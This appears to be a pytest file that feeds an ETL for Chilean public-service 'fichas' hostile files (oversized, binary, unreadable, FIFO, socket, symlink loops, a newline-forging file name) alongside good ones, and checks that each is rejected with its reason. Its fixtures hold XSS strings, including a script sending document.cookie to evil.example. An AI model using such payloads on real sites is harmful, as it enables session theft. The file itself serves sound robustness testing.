"""Hostile files beside good ones: the real CLI finishes in bounded time and memory, loads every good ficha,
names every bad file with its reason, exits 1 and never prints a traceback."""

import os
import random
import re
import socket
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest
from helpers import HUASCO, LOS_LAGOS, ROOT, drop_root_read_override, query

from etl.text import SHORT_TEXT, parse_flag, parse_links

TIMEOUT = 90  # seconds; the build below takes about 5 (parsing the 50 MB file as a ficha would add 15 or more)
# Peak memory: about 310 MB here (230 MB of it DuckDB and pandas); parsing the 50 MB file as a ficha takes 720-850 MB.
MAX_RSS_MB = 512
BIG_FILE_MB = 50

HTML_SERVICIO = '<script>alert("servicio")</script> SERVICIO <b>LOCAL</b> &amp; <img src=x onerror=alert(1)>'
HTML_PRODUCTO = "<script>document.location='http://evil.example/?c='+document.cookie</script>"
HTML_CLIENTE = '</td><td onmouseover="alert(1)">Estudiantes & apoderados'
DEEP = "hondo/" + "a/" * 1100 + "f.txt"  # deeper than Python's recursion limit
ONE_MB_CELL = ("celda " * 174_763)[:1_048_576].strip()
REPEATS = 1000
PRODUCTS = 10_000


def identity(text: str, partida: str, capitulo: str) -> str:
    """The same ficha under another (partida, capítulo), so that it is not a duplicate."""
    text = re.sub(r"PARTIDA\t\d+", f"PARTIDA\t{partida}", text)
    return re.sub(r"CAPITULO\t\d+", f"CAPITULO\t{capitulo}", text)


def html_ficha(text: str) -> str:
    return (
        text.replace("SERVICIO LOCAL DE EDUCACIÓN HUASCO", HTML_SERVICIO)
        .replace("\tServicio de educación pública.\t", f"\t{HTML_PRODUCTO}\t")
        .replace("\tEstudiantes de los establecimientos educacionales del territorio\t", f"\t{HTML_CLIENTE}\t")
    )


def repeated_sections(text: str) -> str:
    """Every section after the header block, one thousand times over."""
    start = text.index("**Ley orgánica")
    return text[:start] + (text[start:] + "\n") * REPEATS


def many_products(text: str) -> str:
    head, rest = text.split("Número\tProducto Estratégico", 1)
    clients = rest[rest.index("\nNúmero\tClientes") :]
    rows = "".join(f"{n}\tProducto {n}\tDescripción del producto {n}\t1,2\tNo\tSi\n" for n in range(1, PRODUCTS + 1))
    header = (
        "Número\tProducto Estratégico\tDescripción\tClientes\tAplica Gestión Territorial\tAplica Enfoque de Género\n"
    )
    return head + header + rows + clients


def write_big_file(path: Path) -> None:
    chunk = HUASCO.read_bytes()
    with path.open("wb") as handle:
        for _ in range(BIG_FILE_MB * 1_048_576 // len(chunk) + 1):
            handle.write(chunk)


def run_build(folder: Path, db: Path, log_dir: Path) -> tuple[int, str, str, float, float]:
    """Run `python -m etl build` with a deadline; returns exit code, stdout, stderr, seconds and peak memory in MB."""
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    env.pop("FICHAS_DB", None)
    command = [*drop_root_read_override(), sys.executable, "-m", "etl", "build", str(folder), "--db", str(db)]
    out, err = log_dir / "stdout", log_dir / "stderr"
    started = time.monotonic()
    with out.open("wb") as stdout, err.open("wb") as stderr:
        process = subprocess.Popen(command, cwd=ROOT, env=env, stdin=subprocess.DEVNULL, stdout=stdout, stderr=stderr)
    peak = 0.0
    while process.poll() is None:
        peak = max(peak, peak_memory_mb(process.pid))
        if time.monotonic() - started > TIMEOUT:
            process.kill()
            process.wait()
            pytest.fail(f"the build did not finish in {TIMEOUT} s (blocked on a hostile file?)")
        time.sleep(0.02)
    elapsed = time.monotonic() - started
    return process.returncode, out.read_text(), err.read_text(), elapsed, peak


def peak_memory_mb(pid: int) -> float:
    """The process's own high-water resident memory so far (VmHWM). Not ru_maxrss from wait4: Linux counts in it
    the memory of the parent (this pytest process) at the time of the spawn."""
    try:
        status = Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return 0.0
    match = re.search(r"^VmHWM:\s+(\d+) kB", status, re.MULTILINE)
    return int(match[1]) / 1024 if match else 0.0


@pytest.fixture
def hostile(folder, monkeypatch):
    """Good fichas, each under its own (partida, capítulo), beside every kind of bad file. Yields the folder and
    two dicts, keyed by file names as the ETL shows them: good -> ficha_id, bad -> expected reason."""
    huasco = HUASCO.read_text(encoding="utf-8")
    good = {
        "buena.txt": "2021-09-21",
        "sub/otra_buena.md": "2021-05-70",
        "carpeta.txt/dentro.txt": "2021-10-01",  # a folder named like a ficha is searched, not read
        "celda_1mb.txt": "2021-11-01",
        "html.txt": "2021-12-01",
        "secciones_repetidas.txt": "2021-13-01",
        "productos_10000.txt": "2021-14-01",
        "nombre_no_utf8_\\xff.txt": "2021-17-01",  # how the summary and the database show the byte 0xFF
        DEEP: "2021-18-01",
    }
    folder.write("buena.txt", huasco)
    folder.write("sub/otra_buena.md", LOS_LAGOS.read_bytes())
    folder.write("carpeta.txt/dentro.txt", identity(huasco, "10", "01"))
    folder.write(
        "celda_1mb.txt",
        identity(huasco, "11", "01").replace("\tServicio de educación pública.\t", f"\t{ONE_MB_CELL}\t"),
    )
    folder.write("html.txt", html_ficha(identity(huasco, "12", "01")))
    folder.write("secciones_repetidas.txt", repeated_sections(identity(huasco, "13", "01")))
    folder.write("productos_10000.txt", many_products(identity(huasco, "14", "01")))
    with open(os.fsencode(folder.path) + b"/nombre_no_utf8_\xff.txt", "wb") as handle:
        handle.write(identity(huasco, "17", "01").encode())
    deep = folder.path
    for part in Path(DEEP).parent.parts:  # not os.makedirs: it recurses too, and would hit Python's limit
        deep = deep / part
        deep.mkdir()
    (deep / "f.txt").write_text(identity(huasco, "18", "01"), encoding="utf-8")

    bad = {
        "grande.txt": f"El archivo pesa {BIG_FILE_MB} MB",
        "nulos.txt": "El archivo es binario",
        "aleatorio.txt": "El archivo es binario",
        "sin_permiso.txt": "No se puede leer el archivo: permiso denegado.",
        "cerrada": "No se puede leer la carpeta: permiso denegado.",
        "tuberia.txt": "No es un archivo de texto sino una tubería (FIFO); no se lee.",
        "socket.txt": "No es un archivo de texto sino un socket; no se lee.",
        "cero.txt": "No es un archivo de texto sino un dispositivo; no se lee.",
        "bucle_a.txt": "No se puede leer el archivo: los enlaces simbólicos forman un bucle.",
        "bucle_b.txt": "No se puede leer el archivo: los enlaces simbólicos forman un bucle.",
        "roto.txt": "No se puede leer el archivo: no existe",
        "salto\\x0aRECHAZADO falso.txt": "No es una Ficha",  # a line break in a name must not forge a line
    }
    root = folder.path
    write_big_file(root / "grande.txt")
    folder.write("nulos.txt", b"\x00" * 1_048_576)
    folder.write("aleatorio.txt", random.Random(5).randbytes(262_144))
    folder.write("sin_permiso.txt", identity(huasco, "15", "01")).chmod(0)
    folder.write("cerrada/escondida.txt", identity(huasco, "16", "01"))
    (root / "cerrada").chmod(0)
    os.mkfifo(root / "tuberia.txt")
    with socket.socket(socket.AF_UNIX) as listener, monkeypatch.context() as patch:
        patch.chdir(root)  # a relative address: socket paths are limited to 108 bytes
        listener.bind("socket.txt")
    (root / "cero.txt").symlink_to("/dev/zero")
    (root / "bucle_a.txt").symlink_to("bucle_b.txt")
    (root / "bucle_b.txt").symlink_to("bucle_a.txt")
    (root / "roto.txt").symlink_to("no_existe.txt")
    (root / "vuelta").symlink_to(".")  # a folder loop: searched once, not forever
    folder.write("salto\nRECHAZADO falso.txt", "Ni título ni ficha.")
    try:
        yield root, good, bad
    finally:
        (root / "cerrada").chmod(stat.S_IRWXU)  # so that pytest can remove it
        (root / "grande.txt").unlink()  # pytest keeps recent temporary folders; do not keep 50 MB
        remove_deep_folder(root / DEEP)


def remove_deep_folder(file: Path) -> None:
    """shutil.rmtree recurses in Python 3.11 and would fail on the deep folder when pytest cleans up: go bottom-up."""
    file.unlink()
    for folder in file.parents:
        if folder.name != "a":
            folder.rmdir()  # "hondo"
            break
        folder.rmdir()


@pytest.mark.slow
def test_hostile_files_beside_good_ones(hostile, tmp_path):
    root, good, bad = hostile
    db = tmp_path / "fichas.duckdb"
    code, stdout, stderr, seconds, rss_mb = run_build(root, db, tmp_path)

    assert "Traceback" not in stdout + stderr, stderr
    assert code == 1, stdout + stderr
    assert f"Fichas cargadas: {len(good)}\n" in stdout
    assert f"Archivos rechazados: {len(bad)}\n" in stdout
    name = {f"{root.as_posix()}/{relative}": relative for relative in [*good, *bad]}
    rejected = [line for line in stdout.splitlines() if "RECHAZADO" in line]
    assert len(rejected) == len(bad), rejected
    for relative, reason in bad.items():
        line = f"  RECHAZADO {root.as_posix()}/{relative}:"
        assert any(shown.startswith(line) and reason in shown for shown in rejected), (line, reason)

    # Every file is accounted for, with its reason, in the database too.
    archivos = query(db, "select archivo, estado, ficha_id from archivos")
    assert sorted((name[a], estado, fid) for a, estado, fid in archivos) == sorted(
        [(relative, "cargada", fid) for relative, fid in good.items()]
        + [(relative, "rechazada", None) for relative in bad]
    )
    errors = query(db, "select archivo, mensaje from problemas where nivel = 'error'")
    assert len(errors) == len(bad)
    for archivo, mensaje in errors:
        assert mensaje.startswith(bad[name[archivo]]), (archivo, mensaje)
    assert sorted(query(db, "select ficha_id from fichas")) == sorted((fid,) for fid in good.values())

    # Hostile-but-valid content is stored verbatim: HTML is data, a 1 MB cell is kept whole.
    assert query(db, "select servicio from fichas where ficha_id = '2021-12-01'") == [(HTML_SERVICIO,)]
    assert query(db, "select nombre from productos where ficha_id = '2021-12-01' and numero = 1") == [(HTML_PRODUCTO,)]
    assert query(db, "select descripcion from clientes where ficha_id = '2021-12-01' and numero = 1") == [
        (HTML_CLIENTE,)
    ]
    assert query(db, "select nombre from productos where ficha_id = '2021-11-01' and numero = 1") == [(ONE_MB_CELL,)]
    assert query(db, "select count(*) from productos where ficha_id = '2021-14-01'") == [(PRODUCTS,)]
    assert query(db, "select count(*) from producto_cliente where ficha_id = '2021-14-01'") == [(2 * PRODUCTS,)]
    # Repeated sections: the first of each numbered row is kept, every repetition is recorded as a warning.
    repeated = "select count(*) from {} where ficha_id = '2021-13-01'"
    assert query(db, repeated.format("objetivos_ministeriales")) == [(11,)]
    assert query(db, repeated.format("productos")) == [(2,)]
    assert query(db, "select count(*) from problemas where ficha_id = '2021-13-01' and mensaje like '%repetido%'") == [
        (21 * (REPEATS - 1),)
    ]

    # Bounded: the deadline in run_build, and memory far below what reading the 50 MB file into text would take.
    assert seconds < TIMEOUT
    assert rss_mb < MAX_RSS_MB, f"peak memory {rss_mb:.0f} MB"


def test_unreadable_file_really_is_unreadable_to_the_build(tmp_path):
    """Guards the test above: the permission case is real only if the ETL process cannot bypass file modes."""
    secret = tmp_path / "secreto.txt"
    secret.write_text("x")
    secret.chmod(0)
    probe = [*drop_root_read_override(), sys.executable, "-c", f"open({str(secret)!r}).read()"]
    result = subprocess.run(probe, capture_output=True, text=True, timeout=60)
    assert result.returncode != 0 and "PermissionError" in result.stderr


def test_the_parser_keeps_short_texts_only():
    """The parser remembers texts that repeat across fichas (link cells, header rows), all short; a hostile file's
    long cells are parsed as well, and not kept."""
    long_cell = ", ".join(["1", "2"] * SHORT_TEXT)
    kept = parse_links.__self__  # the cache `short_text_cache` made: `parse_links` is its `__getitem__`
    assert parse_links(long_cell) == parse_links(long_cell) == ((1, 2), ())
    assert long_cell not in kept
    assert parse_links("1, 2, 3 y 4") == parse_links("1, 2, 3 y 4") == ((1, 2, 3, 4), ())
    assert "1, 2, 3 y 4" in kept


def test_the_parser_caches_stay_bounded():
    """A file of endless distinct short cells cannot grow a cache past its size: a full cache starts over."""
    kept = parse_flag.__self__
    for n in range(kept.maxsize + 10):
        assert parse_flag(f"quizá {n}") is None
    assert 0 < len(kept) <= kept.maxsize
